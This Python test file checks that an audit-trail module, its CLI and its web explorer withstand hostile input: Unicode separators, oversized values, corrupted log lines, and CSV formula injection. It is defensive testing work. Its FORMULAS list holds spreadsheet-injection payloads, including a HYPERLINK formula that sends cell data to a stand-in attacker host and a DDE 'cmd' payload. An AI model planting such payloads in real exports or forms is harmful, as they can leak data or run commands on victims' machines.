"""The audit trail in hostile hands: any text of any length is recorded, nothing recorded
breaks a later event, `verify` finds every line it cannot read, and the CSV export can
neither run as a spreadsheet formula nor be read by another local user (issue 15, items 1
and 11). The attacks go through the surfaces an attacker has: the explorer's sign-in form
(no account needed), the CLI, and the explorer's free query box.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest
from typer.testing import CliRunner

from jigsaw import audit
from jigsaw_cli import app as cli
from tests.explorer_app import APP, PASSPHRASE, app, ready_account, sign_in

HOSTILE = {
    "line separator": "x\u2028y",
    "paragraph separator": "x\u2029y",
    "next line": "x\u0085y",
    "file, group and record separators": "x\x1c\x1d\x1ey",
    "carriage return": "x\ry",
    "nul": "x\x00y",
    "lone high surrogate": "x\ud800y",
    "lone low surrogate": "x\udfffy",
    "newline": "x\ny",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_any_text_is_recorded_and_every_later_event_follows(home, text):
    audit.record(home, "access", user=text, purpose=text, action="sign-in refused", **{text: text, "nested": [text]})
    audit.record(home, "access", user="amira.k", purpose=None, action="signed in")
    first, second = audit.events(home)
    assert first["user"] == text and first["details"] == {text: text, "nested": [text]}
    assert second["previous"] == first["hash"]
    assert audit.verify(home).ok and audit.verify(home).events == 2
    assert audit.audit_path(home).read_bytes().count(b"\n") == 2  # one line each, whatever the text


def test_a_ten_megabyte_value_and_a_tail_longer_than_any_window(home):
    big = ("\u2028é\n" * 3_500_000)[:10_000_000]  # 10 MB of text that splits under str.splitlines()
    audit.record(home, "consultation", user="analyst.one", purpose="CASE-1", action="free query", text=big)
    audit.record(home, "consultation", user="analyst.one", purpose="CASE-1", action="free query", text="RETURN 1")
    assert [e["details"]["text"] == big for e in audit.events(home)] == [True, False]
    assert audit.verify(home).ok and audit.verify(home).events == 2


def _old_line(previous: str, user: str) -> str:
    """A line as the earlier writer made it: raw UTF-8, U+2028 unescaped."""
    event = {
        "at": "2026-01-01T00:00:00.000+00:00",
        "kind": "access",
        "user": user,
        "purpose": None,
        "action": "signed in",
        "details": {},
        "previous": previous,
    }
    event["hash"] = audit._hash(previous, event)
    return json.dumps(event, ensure_ascii=False) + "\n"


def test_a_trail_written_by_the_earlier_version_still_verifies_and_grows(home):
    path = audit.audit_path(home)
    path.parent.mkdir(parents=True)
    first = _old_line(audit.GENESIS, "zoë")
    path.write_text(first + _old_line(json.loads(first)["hash"], "x\u2028y"), encoding="utf-8")
    audit.record(home, "access", user="amira.k", purpose=None, action="signed in")  # raised JSONDecodeError before
    result = audit.verify(home)
    assert result.ok and result.events == 3


def _trail(home: Path, n: int = 5) -> Path:
    for i in range(n):
        audit.record(home, "access", user=f"user {i} \u2028 é", purpose=None, action="signed in")
    return audit.audit_path(home)


def _lines(path: Path) -> list[bytes]:
    return path.read_bytes().split(b"\n")[:-1]


# A line that cannot be read hides the hash the next line chains to: where it replaced or
# split a real line, the line after it is reported too ("and anything after it").
@pytest.mark.parametrize(
    ("damage", "bad", "good"),
    [
        # a tool that treats U+2028 as a line end splits a line in two
        (
            lambda ls: ls[:1] + ls[1].decode().replace("\\u2028", "\u2028").encode().split("\u2028".encode()) + ls[2:],
            [2, 3, 4],
            3,
        ),
        (lambda ls: ls[:2] + [ls[2][:40]] + ls[3:], [3, 4], 3),  # a line cut short
        (lambda ls: ls[:1] + [b"\xff\xfe not utf-8"] + ls[1:], [2], 5),  # bytes that are not text
        (lambda ls: ls[:3] + [b"[1, 2]"] + ls[3:], [4], 5),  # JSON but no event
        (lambda ls: ls[:1] + [b"garbage"] + ls[1:3] + [b"{"] + ls[3:], [2, 5], 5),  # two faults: both found
    ],
)
def test_verify_reports_every_line_it_cannot_read(home, damage, bad, good):
    path = _trail(home)
    path.write_bytes(b"\n".join(damage(_lines(path))) + b"\n")
    result = audit.verify(home)
    assert not result.ok and [line for line, _ in result.problems] == bad and result.line == bad[0]
    assert result.events == good  # the rest still verify
    out = CliRunner().invoke(cli, ["audit", "verify"])
    assert out.exit_code == 1 and all(f"line {line}:" in out.output for line in bad)


def test_a_torn_last_line_does_not_stop_the_trail_and_is_reported(home):
    path = _trail(home, 3)
    path.write_bytes(path.read_bytes()[:-30])  # the writer died mid-line
    audit.record(home, "access", user="amira.k", purpose=None, action="signed in")  # must not raise
    torn = _lines(path)[2]
    assert json.loads(_lines(path)[3])["previous"] == hashlib.sha256(torn).hexdigest()
    result = audit.verify(home)
    assert not result.ok and result.problems == [(3, "the line is not valid JSON (cut short, split or edited)")]
    assert result.events == 3
    assert [e["kind"] for e in audit.events(home)] == ["access", "access", "unreadable", "access"]  # nothing dropped


def test_a_hostile_username_at_sign_in_breaks_nothing_after_it(home):
    """The attack of item 1, before any account: then a real sign-in, `users add` and verify."""
    username = ready_account(home)
    at = AppTest.from_file(APP, default_timeout=60).run()
    sign_in(at, "x\u2028y", "guess")
    assert not at.exception and at.error
    sign_in(at, username, PASSPHRASE)
    assert not at.exception and not at.error and at.title[0].value == "Audit trail"
    added = CliRunner().invoke(cli, ["users", "add", "nadia.o", "--role", "cse_analyst"])
    assert added.exit_code == 0, added.output
    actions = [(e["user"], e["action"]) for e in audit.events(home)]
    assert actions == [
        ("x\u2028y", "sign-in refused"),
        (username, "signed in"),
        (username, "audit trail viewed"),
        ("admin.one", "account added"),
    ]
    verified = CliRunner().invoke(cli, ["audit", "verify"])
    assert verified.exit_code == 0 and "4 events" in verified.output


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def test_the_csv_export_runs_no_formula_is_owner_only_and_is_itself_audited(home, tmp_path):
    at = AppTest.from_file(APP, default_timeout=60).run()
    for username in FORMULAS:  # typed into the sign-in form by anyone who can reach it
        sign_in(at, username, "guess")
    out = tmp_path / "trail.csv"
    out.write_text("left by someone else")
    os.chmod(out, 0o644)
    exported = CliRunner().invoke(cli, ["audit", "export", "--format", "csv", "--out", str(out)])
    assert exported.exit_code == 0, exported.output
    assert oct(out.stat().st_mode & 0o777) == "0o600"
    rows = list(csv.reader(out.open(newline="", encoding="utf-8")))
    assert [r[2] for r in rows[1:]] == ["'" + u.strip().lower()[:64] for u in FORMULAS]
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    last = list(audit.events(home))[-1]
    assert (last["kind"], last["action"], last["details"]["format"], last["details"]["events"]) == (
        "disclosure",
        "audit trail exported",
        "csv",
        len(FORMULAS),
    )
    jsonl = tmp_path / "trail.jsonl"
    assert CliRunner().invoke(cli, ["audit", "export", "--out", str(jsonl)]).exit_code == 0
    assert oct(jsonl.stat().st_mode & 0o777) == "0o600" and jsonl.read_bytes().isascii()


def test_the_audit_page_says_the_trail_is_broken_and_still_shows_every_line(home):
    username = ready_account(home)
    path = _trail(home, 2)
    with path.open("ab") as handle:
        handle.write(b'{"at": "2026-01-01", "user": "x\xe2\x80\xa8y"\n')  # a line cut short by hand
    at = sign_in(AppTest.from_file(APP, default_timeout=60).run(), username, PASSPHRASE)
    assert not at.exception and at.title[0].value == "Audit trail"
    assert at.error and "line 3" in at.error[0].value
    assert "unreadable" in set(at.dataframe[0].value["Kind"])


@pytest.mark.neo4j
def test_a_free_query_longer_than_any_window_is_recorded_and_the_trail_goes_on(explorer_env, small_network):
    """The signed-in variant of item 1: a free query over 64 KiB, full of U+2028, on the Queries page."""

    at = app()
    at.switch_page("views/queries.py").run()
    text = "RETURN 1 AS n /* " + "\u2028 padding é " * 8000 + " */"  # about 100 KiB
    at.text_area[0].input(text)
    next(b for b in at.button if b.label == "Check and run").click().run()
    assert not at.exception
    at.switch_page("views/search.py").run()
    at.text_input(key="purpose_input").input("CASE-2024-002").run()  # any later event
    at.text_input[0].input("Kyle Johnson")  # the search box (the sidebar comes after the page)
    next(b for b in at.button if b.label == "Search").click().run()
    assert not at.exception and not at.error
    events = list(audit.events(explorer_env))
    free = next(e for e in events if e["action"].startswith("free query"))
    assert free["details"]["text"] == text
    assert events[-1]["details"].get("query") == "person_search" and events[-1]["purpose"] == "CASE-2024-002"
    assert audit.verify(explorer_env).ok
